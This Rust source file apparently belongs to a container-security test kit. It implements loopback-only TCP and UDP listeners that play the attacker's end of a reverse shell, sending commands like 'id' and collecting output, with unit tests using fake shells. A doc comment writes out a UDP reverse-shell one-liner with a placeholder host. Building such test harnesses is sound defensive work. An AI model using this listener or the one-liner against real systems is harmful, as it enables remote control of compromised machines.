//! The attacker's end of a reverse shell: a TCP listener on 127.0.0.1 that accepts one
//! connection, sends commands and collects what comes back.

use std::io::{ErrorKind, Read, Write};
use std::net::{SocketAddr, TcpListener, TcpStream, UdpSocket};
use std::thread::{self, JoinHandle};
use std::time::{Duration, Instant};

use crate::error::TestkitError;

/// A listener on `127.0.0.1:<ephemeral port>`.
#[derive(Debug)]
pub struct ShellListener {
    listener: TcpListener,
    port: u16,
}

/// What one reverse-shell connection produced.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ShellSession {
    /// The connecting socket's address as the host sees it (127.0.0.1:<port> for both host and
    /// slirp4netns networking).
    pub peer: SocketAddr,
    /// Everything the shell wrote before closing the connection.
    pub output: Vec<u8>,
}

impl ShellSession {
    /// The output as (lossy) UTF-8.
    pub fn output_str(&self) -> String {
        String::from_utf8_lossy(&self.output).into_owned()
    }
}

/// A session being served on a background thread; see [`ShellListener::serve`].
#[derive(Debug)]
pub struct PendingSession {
    port: u16,
    handle: JoinHandle<Result<ShellSession, TestkitError>>,
}

impl PendingSession {
    /// The port the container must connect to.
    pub fn port(&self) -> u16 {
        self.port
    }

    /// Waits for the session to finish (it ends by its own timeout at the latest).
    pub fn wait(self) -> Result<ShellSession, TestkitError> {
        self.handle
            .join()
            .unwrap_or_else(|_| Err(TestkitError::unexpected("listener thread", "panicked")))
    }
}

impl ShellListener {
    /// Binds `127.0.0.1:0`.
    pub fn bind() -> Result<ShellListener, TestkitError> {
        let listener = TcpListener::bind("127.0.0.1:0")
            .map_err(|e| TestkitError::io("binding 127.0.0.1:0", e))?;
        let port = listener
            .local_addr()
            .map_err(|e| TestkitError::io("local_addr of listener", e))?
            .port();
        Ok(ShellListener { listener, port })
    }

    /// The port it listens on.
    pub fn port(&self) -> u16 {
        self.port
    }

    /// Accepts one connection, writes `commands` (e.g. `"id\nexit\n"`), then reads until the
    /// peer closes. The whole exchange, from now, must end within `timeout`; otherwise a
    /// [`TestkitError::Timeout`] carries whatever output had arrived.
    pub fn accept_and_run(
        &self,
        commands: &str,
        timeout: Duration,
    ) -> Result<ShellSession, TestkitError> {
        let deadline = Instant::now() + timeout;
        let (stream, peer) = self.accept_until(deadline, timeout)?;
        drive(stream, peer, commands.as_bytes(), deadline, timeout)
    }

    /// [`ShellListener::accept_and_run`] on a background thread, so the test can start the
    /// connecting process meanwhile; collect the result with [`PendingSession::wait`].
    pub fn serve(self, commands: &str, timeout: Duration) -> PendingSession {
        let port = self.port;
        let commands = commands.to_string();
        let handle = thread::spawn(move || self.accept_and_run(&commands, timeout));
        PendingSession { port, handle }
    }

    fn accept_until(
        &self,
        deadline: Instant,
        timeout: Duration,
    ) -> Result<(TcpStream, SocketAddr), TestkitError> {
        self.listener
            .set_nonblocking(true)
            .map_err(|e| TestkitError::io("set_nonblocking", e))?;
        loop {
            match self.listener.accept() {
                Ok((stream, peer)) => {
                    stream
                        .set_nonblocking(false)
                        .map_err(|e| TestkitError::io("set_nonblocking(false)", e))?;
                    return Ok((stream, peer));
                }
                Err(e) if e.kind() == ErrorKind::WouldBlock => {
                    if Instant::now() >= deadline {
                        return Err(TestkitError::Timeout {
                            what: format!("a connection on 127.0.0.1:{}", self.port),
                            timeout,
                            partial: String::new(),
                        });
                    }
                    thread::sleep(Duration::from_millis(10));
                }
                Err(e) if e.kind() == ErrorKind::Interrupted => {}
                Err(e) => return Err(TestkitError::io("accept", e)),
            }
        }
    }
}

/// The attacker's end of a reverse shell over UDP (`sh -i >& /dev/udp/H/P 0>&1`): a UDP socket
/// on `127.0.0.1:<ephemeral port>`. UDP has no connection: the shell's first datagram (its
/// prompt on stderr) names its address, the commands go back there in one datagram, and the
/// session ends once `until` has arrived and nothing more came for a quiet period.
#[derive(Debug)]
pub struct UdpShellListener {
    socket: UdpSocket,
    port: u16,
}

impl UdpShellListener {
    /// Binds `127.0.0.1:0` (UDP).
    pub fn bind() -> Result<UdpShellListener, TestkitError> {
        let socket = UdpSocket::bind("127.0.0.1:0")
            .map_err(|e| TestkitError::io("binding UDP 127.0.0.1:0", e))?;
        let port = socket
            .local_addr()
            .map_err(|e| TestkitError::io("local_addr of UDP socket", e))?
            .port();
        Ok(UdpShellListener { socket, port })
    }

    /// The port the shell must send to.
    pub fn port(&self) -> u16 {
        self.port
    }

    /// On a background thread: waits for the shell's first datagram, sends `commands`, and
    /// collects what comes back until the output contains `until` and 300 ms pass without a
    /// datagram (or `timeout`, from now, passes: then a [`TestkitError::Timeout`] with the
    /// partial output).
    pub fn serve(self, commands: &str, until: &str, timeout: Duration) -> PendingSession {
        let port = self.port;
        let commands = commands.as_bytes().to_vec();
        let until = until.to_string();
        let handle = thread::spawn(move || self.run(&commands, &until, timeout));
        PendingSession { port, handle }
    }

    fn run(
        &self,
        commands: &[u8],
        until: &str,
        timeout: Duration,
    ) -> Result<ShellSession, TestkitError> {
        let deadline = Instant::now() + timeout;
        let quiet = Duration::from_millis(300);
        let mut output = Vec::new();
        let mut peer: Option<SocketAddr> = None;
        let mut buf = [0u8; 65536];
        loop {
            let left = deadline.saturating_duration_since(Instant::now());
            let done = String::from_utf8_lossy(&output).contains(until);
            if left.is_zero() {
                return Err(TestkitError::Timeout {
                    what: format!("a UDP shell session on 127.0.0.1:{}", self.port),
                    timeout,
                    partial: String::from_utf8_lossy(&output).into_owned(),
                });
            }
            let wait = if done { quiet.min(left) } else { left };
            self.socket
                .set_read_timeout(Some(wait))
                .map_err(|e| TestkitError::io("set_read_timeout", e))?;
            match self.socket.recv_from(&mut buf) {
                Ok((n, from)) => {
                    if peer.is_none() {
                        peer = Some(from);
                        self.socket
                            .send_to(commands, from)
                            .map_err(|e| TestkitError::io(format!("sending to {from}"), e))?;
                    }
                    if Some(from) == peer {
                        output.extend_from_slice(&buf[..n]);
                    }
                }
                Err(e) if matches!(e.kind(), ErrorKind::WouldBlock | ErrorKind::TimedOut) => {
                    if done {
                        break;
                    }
                }
                Err(e) if e.kind() == ErrorKind::Interrupted => {}
                // ICMP port unreachable once the shell is gone.
                Err(e) if e.kind() == ErrorKind::ConnectionRefused && done => break,
                Err(e) if e.kind() == ErrorKind::ConnectionRefused => {}
                Err(e) => return Err(TestkitError::io("UDP recv_from", e)),
            }
        }
        let peer = peer.ok_or_else(|| TestkitError::unexpected("UDP session", "no datagram"))?;
        Ok(ShellSession { peer, output })
    }
}

fn drive(
    mut stream: TcpStream,
    peer: SocketAddr,
    commands: &[u8],
    deadline: Instant,
    timeout: Duration,
) -> Result<ShellSession, TestkitError> {
    stream
        .write_all(commands)
        .map_err(|e| TestkitError::io(format!("writing commands to {peer}"), e))?;
    let mut output = Vec::new();
    let mut buf = [0u8; 4096];
    loop {
        let left = deadline.saturating_duration_since(Instant::now());
        if left.is_zero() {
            return Err(TestkitError::Timeout {
                what: format!("the shell connected from {peer} to close"),
                timeout,
                partial: String::from_utf8_lossy(&output).into_owned(),
            });
        }
        stream
            .set_read_timeout(Some(left))
            .map_err(|e| TestkitError::io("set_read_timeout", e))?;
        match stream.read(&mut buf) {
            Ok(0) => break,
            Ok(n) => output.extend_from_slice(&buf[..n]),
            Err(e) if matches!(e.kind(), ErrorKind::WouldBlock | ErrorKind::TimedOut) => {}
            Err(e) if e.kind() == ErrorKind::Interrupted => {}
            // A shell that exits while we still send can reset the connection: that is an end.
            Err(e) if e.kind() == ErrorKind::ConnectionReset => break,
            Err(e) => return Err(TestkitError::io(format!("reading from {peer}"), e)),
        }
    }
    Ok(ShellSession { peer, output })
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::io::BufRead;

    #[test]
    fn sends_commands_and_collects_output() {
        let listener = ShellListener::bind().unwrap();
        let port = listener.port();
        let pending = listener.serve("id\nexit\n", Duration::from_secs(10));
        assert_eq!(pending.port(), port);
        // A fake "shell": echoes each line back until "exit".
        let client = thread::spawn(move || {
            let stream = TcpStream::connect(("127.0.0.1", port)).unwrap();
            let mut writer = stream.try_clone().unwrap();
            for line in std::io::BufReader::new(stream).lines() {
                let line = line.unwrap();
                if line == "exit" {
                    break;
                }
                writeln!(writer, "ran {line}").unwrap();
            }
        });
        let session = pending.wait().unwrap();
        client.join().unwrap();
        assert_eq!(session.output_str(), "ran id\n");
        assert!(session.peer.ip().is_loopback());
    }

    #[test]
    fn udp_session_learns_the_peer_and_collects_replies() {
        let listener = UdpShellListener::bind().unwrap();
        let port = listener.port();
        let pending = listener.serve("id\nexit\n", "ran id", Duration::from_secs(10));
        let shell = UdpSocket::bind("127.0.0.1:0").unwrap();
        shell.connect(("127.0.0.1", port)).unwrap();
        shell.send(b"$ ").unwrap();
        let mut buf = [0u8; 64];
        let n = shell.recv(&mut buf).unwrap();
        assert_eq!(&buf[..n], b"id\nexit\n");
        shell.send(b"ran id\n").unwrap();
        let session = pending.wait().unwrap();
        assert_eq!(session.output_str(), "$ ran id\n");
        assert_eq!(session.peer, shell.local_addr().unwrap());
    }

    #[test]
    fn times_out_without_connection() {
        let listener = ShellListener::bind().unwrap();
        let err = listener
            .accept_and_run("id\n", Duration::from_millis(100))
            .unwrap_err();
        assert!(matches!(err, TestkitError::Timeout { .. }), "{err}");
    }

    #[test]
    fn times_out_when_peer_never_closes_and_keeps_partial_output() {
        let listener = ShellListener::bind().unwrap();
        let port = listener.port();
        let pending = listener.serve("id\n", Duration::from_millis(500));
        let mut stream = TcpStream::connect(("127.0.0.1", port)).unwrap();
        stream.write_all(b"partial").unwrap();
        match pending.wait().unwrap_err() {
            TestkitError::Timeout { partial, .. } => assert_eq!(partial, "partial"),
            other => panic!("{other}"),
        }
        drop(stream);
    }
}
